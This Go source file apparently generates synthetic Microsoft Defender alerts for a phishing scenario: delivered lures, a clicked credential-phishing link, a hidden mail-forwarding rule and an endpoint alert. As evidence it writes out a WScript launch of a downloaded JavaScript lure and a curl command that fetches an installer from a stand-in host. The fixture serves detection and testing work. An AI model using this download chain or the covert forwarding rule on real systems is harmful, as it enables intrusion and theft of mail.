package sample

// mailAlerts are the alerts of Defender for Office 365: messages, a click, and a rule that the attacker left.
func (x phishingCast) mailAlerts() []alert {
	t := x.t
	r := noted(t.recorded(26 * minute))
	delivered := alert{
		key: "phishing/delivered", product: office365(), title: "Phishing messages delivered to mailboxes", severity: "medium", first: t.whole(0),
		last: t.whole(40), created: r.at, updated: t.recorded(31 * minute),
		description: "Six people received the same message; a page behind its link asks for a password. Some copies reached an inbox -V1.0.0.4",
		categories:  []string{"InitialAccess"}, mitre: []string{"T1566.002"}, investigation: "running", policy: "phish delivered",
		additional: object{{"InvestigationState", 32},
			{"ExtendedLinksJson",
				`[{"Href":"https://security.microsoft.com/mtp-investigation/urn:sample","Category":null,"Label":"investigation","Type":"webLink"}]`}},
	}
	for i, m := range x.before {
		state := r.malicious("active")
		if m.action == "blocked" {
			state = r.malicious("blocked")
		}
		delivered.evidence = append(delivered.evidence, m.evidence(state), mailbox(r.suspicious("none"), x.people[i]))
	}
	delivered.evidence = append(delivered.evidence, x.nowhere.evidence(r.suspicious("none")), mailbox(r, x.people[5]),
		link(r.malicious("none"), x.page), ip(r.suspicious("active").as("attacker"), "203.0.113.145",
			&place{"RO", "Romania", "", "Cluj-Napoca", 46.77, 23.6}),
		cluster(r.malicious("pendingApproval"), x.message, append(append([]mail(nil), x.before...), x.nowhere)))

	r = noted(t.recorded(34 * minute))
	click := alert{
		key: "phishing/click", product: office365(), title: "A user opened a link that is known to be malicious", severity: "high",
		first: t.whole(22 * minute), last: t.whole(22 * minute), created: r.at, updated: t.recorded(35 * minute),
		description: "A link was followed before it was found to lead to a page that steals passwords -V1.0.0.5",
		categories:  []string{"InitialAccess", "CredentialAccess"}, mitre: []string{"T1566.002", "T1204.001"}, investigation: "pendingApproval",
		policy: "url click",
		evidence: []object{x.clicker.evidence(r.suspicious("active").as("compromised")), link(r.malicious("none"), x.page),
			x.before[0].evidence(r.malicious("active")), mailbox(r.suspicious("active"), x.clicker)},
	}

	r = noted(t.recorded(3 * hour))
	rule := alert{
		key: "phishing/forward", product: office365(), title: "New rule forwards mail to an outside address", severity: "high",
		first: t.whole(2*hour + 51*minute), last: t.whole(2*hour + 51*minute), created: r.at, updated: r.at,
		description: "A mailbox now forwards every message about invoices to an address outside the company and deletes the original -V1.0.0.2",
		categories:  []string{"Collection", "Exfiltration"}, mitre: []string{"T1114.003", "T1564.008"}, policy: "forwarding rule",
		evidence: []object{
			x.clicker.evidence(r.suspicious("active").as("compromised")), mailbox(r.suspicious("active"), x.clicker),
			mailboxRule(r.malicious("active").as("created"), x.clicker, "mailForwardingRule", ". invoices → collect@mailstore.example"),
			mailboxRule(r.suspicious("active").as("created"), x.clicker, "userInboxRule", ".."), ip(r.suspicious("active"), "198.51.100.203", nil),
			cloudLogon(r.suspicious("active"), x.clicker, "Chrome 131", "Linux", "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0",
				t.whole(2*hour+44*minute), t.whole(-9*hour)),
		},
	}
	return []alert{delivered, click, rule}
}

// deviceAlerts are what Defender for Endpoint saw on the laptop of the person who followed the link.
func (x phishingCast) deviceAlerts() []alert {
	t := x.t
	r := noted(t.recorded(48 * minute))
	outlook := &process{device: x.laptop, user: x.clicker, id: 8120, started: t.at(-3 * hour),
		image: microsoft(`C:\Program Files\Microsoft Office\root\Office16`, "OUTLOOK.EXE", 44231200)}
	browser := outlook.child(15340, t.at(22*minute),
		file{folder: `C:\Program Files (x86)\Microsoft\Edge\Application`, name: "msedge.exe", size: 4310040, publisher: "Microsoft Corporation"},
		`"msedge.exe" --single-argument `+x.page)
	script := browser.child(15912, t.at(25*minute), system32("wscript.exe", 208896),
		`"C:\Windows\System32\WScript.exe" "C:\Users\d.moreau\Downloads\Benefits_2027.js"`)
	fetch := script.child(16024, t.at(25*minute+2), system32("curl.exe", 602112),
		`curl -s -o %TEMP%\b.msi https://portal.fabrikam-benefits.example/b.msi`)
	lure := file{folder: `C:\Users\d.moreau\Downloads`, name: "Benefits_2027.js", size: 18432}
	return []alert{{
		key: "phishing/script", product: endpoint(), title: "Script from the internet fetched a program", severity: "medium", first: browser.started,
		last: fetch.started, created: r.at, updated: r.at,
		description: "A script in the Downloads folder, saved by the browser minutes before, tried to fetch an installer. The installer was blocked.",
		actions:     []string{"Ask the user what the page showed.", "Delete the script.", "Look for the message that led to the page."},
		categories:  []string{"Execution"}, mitre: []string{"T1059.007", "T1105"},
		evidence: []object{
			x.laptop.evidence(r.suspicious("active").primary()), x.clicker.evidence(r.suspicious("active")), browser.evidence(r.as("contextual")),
			script.evidence(r.malicious("blocked")),
			fetch.evidence(r.malicious("blocked")), lure.on(*x.laptop, r.malicious("remediated"), "blocked"),
			link(r.malicious("blocked"), "https://portal.fabrikam-benefits.example/b.msi"),
			connection(r.suspicious("blocked"), "10.61.8.44", 53112, "203.0.113.146", 443, "tcp"),
		},
	}}
}
